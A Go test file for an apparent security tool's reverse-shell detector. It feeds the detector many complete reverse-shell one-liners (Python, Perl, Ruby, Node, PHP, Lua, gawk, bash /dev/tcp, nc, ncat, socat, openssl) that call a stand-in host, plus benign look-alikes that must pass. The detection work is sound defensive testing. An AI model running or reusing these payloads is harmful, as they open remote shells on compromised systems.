package reverseshell_test

import (
	"strings"
	"testing"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/detect/detecttest"
	"github.com/bollwerk/bollwerk/detect/reverseshell"
)

// told is what the detector says of one program that is started: words between bars; \| is a bar.
func told(t *testing.T, line string) []*bollwerk.Detection {
	s := detecttest.New(detecttest.Container("web", "php:8.3-apache"))
	words := strings.Split(strings.ReplaceAll(line, `\|`, "\x00"), "|")
	for i := range words {
		words[i] = strings.ReplaceAll(words[i], "\x00", "|")
	}
	p := s.Exec(s.Was(nil, "/usr/sbin/apache2"), words[0])
	p.Args = append(p.Args[:1:1], words[1:]...)
	return detecttest.Run(t, reverseshell.New(reverseshell.Config{}), s.Events)
}

const (
	pySocket = `import socket,os;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh"])`
	plSocket = `use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i")`
	rbSocket = `c=TCPSocket.new("203.0.113.7",4444);exec("/bin/sh",:in=>c,:out=>c)`
	jsSocket = `const n=require("net"),s=require("child_process").spawn("/bin/sh");n.connect(4444,"203.0.113.7",function(){this.pipe(s.stdin);s.stdout.pipe(this)})`
	phSocket = `$s=fsockopen("203.0.113.7",4444);proc_open("/bin/sh -i",[$s,$s,$s],$p);`
)

// TestSpelled reads reverse shells off command lines, however their options are written.
func TestSpelled(t *testing.T) {
	for _, line := range []string{
		"/usr/bin/python3|-c|" + pySocket, "/usr/bin/python3|-W|ignore|-c|" + pySocket, "/usr/bin/python3.11|-IBc|" + pySocket, "/usr/bin/python3|-c" + pySocket, "/usr/bin/python3|-X|dev|-uc|" + pySocket,
		"/usr/bin/perl|-e|" + plSocket, "/usr/bin/perl|-MIO|-we|" + plSocket, "/usr/bin/perl|-ne|" + plSocket, "/usr/bin/perl|-e|use Socket;|-e|" + plSocket,
		`/usr/bin/perl|-MIO|-e|$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`,
		"/usr/bin/ruby|-rsocket|-e|" + rbSocket, "/usr/bin/ruby|-r|socket|-W0|-e|" + rbSocket,
		`/usr/bin/ruby|-rsocket|-e|exit if fork;c=TCPSocket.new("203.0.113.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){\|io\|c.print io.read}end`,
		"/usr/bin/node|-e|" + jsSocket, "/usr/bin/node|-p|" + jsSocket, "/usr/bin/node|--eval=" + jsSocket, "/usr/bin/node|--no-warnings|--print|" + jsSocket,
		"/usr/local/bin/php|-r|" + phSocket, "/usr/local/bin/php|-d|memory_limit=1G|-r|" + phSocket, "/usr/local/bin/php|-n|--run|" + phSocket, "/usr/bin/php8.2|-r" + phSocket,
		`/usr/bin/lua5.4|-e|local s=require("socket").tcp();s:connect("203.0.113.7",4444);os.execute("/bin/sh -i <&3 >&3 2>&3")`,
		`/usr/bin/lua5.4|-lsocket|-e|local t=socket.tcp();t:connect("203.0.113.7",4444);while true do local r=t:receive();t:send(io.popen(r,"r"):read("*a")) end`,
		`/usr/bin/gawk|BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while(1){printf "> " \|& s;s \|& getline c;while((c \|& getline)>0)print \|& s}}`,
		`/usr/bin/gawk|-v|a=b|--source=BEGIN{s="/inet4/tcp/0/203.0.113.7/4444";while(1){s \|& getline c;while((c \|& getline)>0)print \|& s}}`,
		`/usr/bin/gdb|-batch|-ex|python ` + pySocket,
		// Shells.
		"/bin/bash|-c|bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "/bin/bash|-lic|bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "/bin/bash|-xc|0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
		"/bin/bash|-o|pipefail|-ec|exec 5<>/dev/tcp/203.0.113.7/4444;/bin/sh <&5 >&5", "/bin/bash|-c|sh>/dev/tcp/203.0.113.7/4444 0>&1", "/bin/bash|-c|: </dev/tcp/127.0.0.1/1; bash -i &>/dev/tcp/203.0.113.7/4444 <&1",
		"/bin/bash|-c|bash < /dev/tcp/203.0.113.7/4444", `/bin/bash|-c|exec 5<>/dev/tcp/203.0.113.7/4444;cat <&5 \| while read line; do $line 2>&5 >&5; done`,
		"/bin/zsh|-c|zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
		"/bin/sh|-c|rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f\\|/bin/sh -i 2>&1\\|nc 203.0.113.7 4444 >/tmp/f", "/bin/sh|-xc|mkfifo /tmp/s;/bin/sh -i </tmp/s 2>&1\\|openssl s_client -quiet -connect 203.0.113.7:4444 >/tmp/s",
		"/bin/busybox=busybox|sh|-c|mknod /tmp/p p; telnet 203.0.113.7 4444 0</tmp/p \\| /bin/sh 1>/tmp/p",
		// Relays.
		"/bin/nc|-e|/bin/sh|203.0.113.7|4444", "/bin/nc|-ne/bin/sh|203.0.113.7|4444", "/bin/nc|-nve|/bin/bash|203.0.113.7|4444", "/bin/nc|203.0.113.7|4444|-e|sh", "/bin/nc|-c|bash -i|203.0.113.7|4444",
		"/usr/bin/ncat|--exec=/bin/bash|203.0.113.7|4444", "/usr/bin/ncat|--sh-e|bash|203.0.113.7|4444", "/usr/bin/ncat|--ssl|203.0.113.7|4444|-e|/bin/sh",
		"/bin/busybox=busybox|nc|203.0.113.7|4444|-e|sh", "/bin/busybox=nc|203.0.113.7|4444|-e|/bin/sh", "/bin/busybox=busybox|nc|-e|sh|203.0.113.7|4444",
		"/bin/nc|-w|5|-p|1234|-e|/usr/local/bin/bash|203.0.113.7|4444",
		`/usr/bin/socat|TCP:203.0.113.7:4444|EXEC:"bash -li",pty,stderr,setsid,sigint,sane`, "/usr/bin/socat|-d|-d|openssl-connect:203.0.113.7:4444,verify=0|exec:sh,pty", "/usr/bin/socat|tcp4:203.0.113.7:4444|SYSTEM:/bin/sh",
		"/usr/bin/socat|STDIO|TCP:203.0.113.7:4444!!EXEC:sh",
	} {
		found := told(t, line)
		if len(found) == 0 || found[0].Severity < bollwerk.SeverityHigh {
			t.Errorf("not told: %s", line)
		}
	}
}

// TestNotSpelled lets ordinary lines of the same programs pass.
func TestNotSpelled(t *testing.T) {
	for _, line := range []string{
		`/usr/bin/python3|-c|import socket; socket.create_connection(("db",5432),2)`, `/usr/bin/python3|-W|ignore|-c|import subprocess; print(subprocess.check_output(["sh","-c","id"]))`,
		"/usr/bin/python3|-m|http.server|-c|" + pySocket, "/usr/bin/python3|app.py|-c|" + pySocket, "/usr/bin/node|server.js|-e|" + jsSocket, "/usr/bin/perl|-w|x.pl|-e|" + plSocket,
		`/usr/bin/node|-p|require("net").isIP("10.0.0.1")`, `/usr/bin/perl|-ne|print if /socket/ && m{/bin/sh}`, `/usr/bin/ruby|-rsocket|-e|puts Socket.gethostname`, `/usr/local/bin/php|-r|exit(fsockopen("db",3306)?0:1);`,
		`/usr/bin/gawk|-F:|$7 ~ /bash$/ {print $1}|/etc/passwd`, `/usr/bin/lua5.4|-e|print(require("socket")._VERSION)`,
		"/bin/bash|-c|timeout 1 bash -c 'cat < /dev/null > /dev/tcp/10.2.0.9/5432'", `/bin/bash|-c|exec 3<>/dev/tcp/10.2.0.9/80; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3`,
		"/bin/bash|-xc|until bash -c '</dev/tcp/db/5432'; do sleep 1; done", "/bin/bash|-c|(echo > /dev/tcp/kafka/9092) >/dev/null 2>&1", "/bin/bash|-c|bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
		"/bin/sh|-c|mkfifo /tmp/log; cat /tmp/log \\| logger & exec /bin/sh run.sh >/tmp/log", "/bin/sh|/srv/run.sh|-c|bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
		"/bin/nc|-zv|10.2.0.9|5432", "/bin/nc|-c|mail.example|443", "/bin/nc|-lk|8080", "/bin/nc|-w|3|10.2.0.9|sh", "/usr/bin/ncat|--ssl|10.2.0.9|443", "/bin/busybox=busybox|nc|-z|db|5432",
		"/usr/bin/socat|TCP-LISTEN:8080,fork|TCP:10.2.0.9:80", "/usr/bin/socat|UNIX-CONNECT:/run/x.sock|EXEC:/usr/bin/health", "/usr/bin/openssl|s_client|-connect|10.2.0.9:443", "/usr/bin/telnet|10.2.0.9|25",
	} {
		for _, d := range told(t, line) {
			t.Errorf("told %s of %s", d.Message, line)
		}
	}
}
